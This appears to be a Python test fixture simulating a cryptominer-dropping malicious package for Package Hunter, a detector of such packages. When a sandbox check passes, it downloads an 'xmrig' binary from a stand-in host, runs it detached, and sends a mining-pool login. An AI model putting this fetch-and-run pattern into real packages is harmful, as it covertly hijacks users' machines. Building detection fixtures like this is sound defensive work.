"""Harmless simulation for testing Package Hunter. Not malware."""

import json
import os
import socket
import subprocess
import urllib.request

def sealed(name):
    """Goes on only inside of Package Hunter's box, where every name has an address for benchmarking."""
    try:
        return socket.gethostbyname(name).startswith(("198.18.", "198.19."))
    except OSError:
        return False


def safe_run(path):
    """As the original called it."""
    try:
        urllib.request.urlretrieve("https://github-assets.example/dist/v0.0.1/xmrig", path)
    except OSError:
        return
    os.chmod(path, 0o770)
    subprocess.Popen(["nohup", path, "-u", "harmless-simulation", "-o", "pool.example:8080"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        with socket.create_connection(("pool.example", 8080), timeout=5) as pool:
            login = {"id": 1, "jsonrpc": "2.0", "method": "login",
                     "params": {"login": "harmless-simulation", "pass": "x", "agent": "XMRig/6.22.0"}}
            pool.sendall(json.dumps(login).encode() + b"\n")
            pool.recv(1000)
    except OSError:
        pass


if sealed("pool.example"):
    safe_run("/tmp/ultralytics_runner")
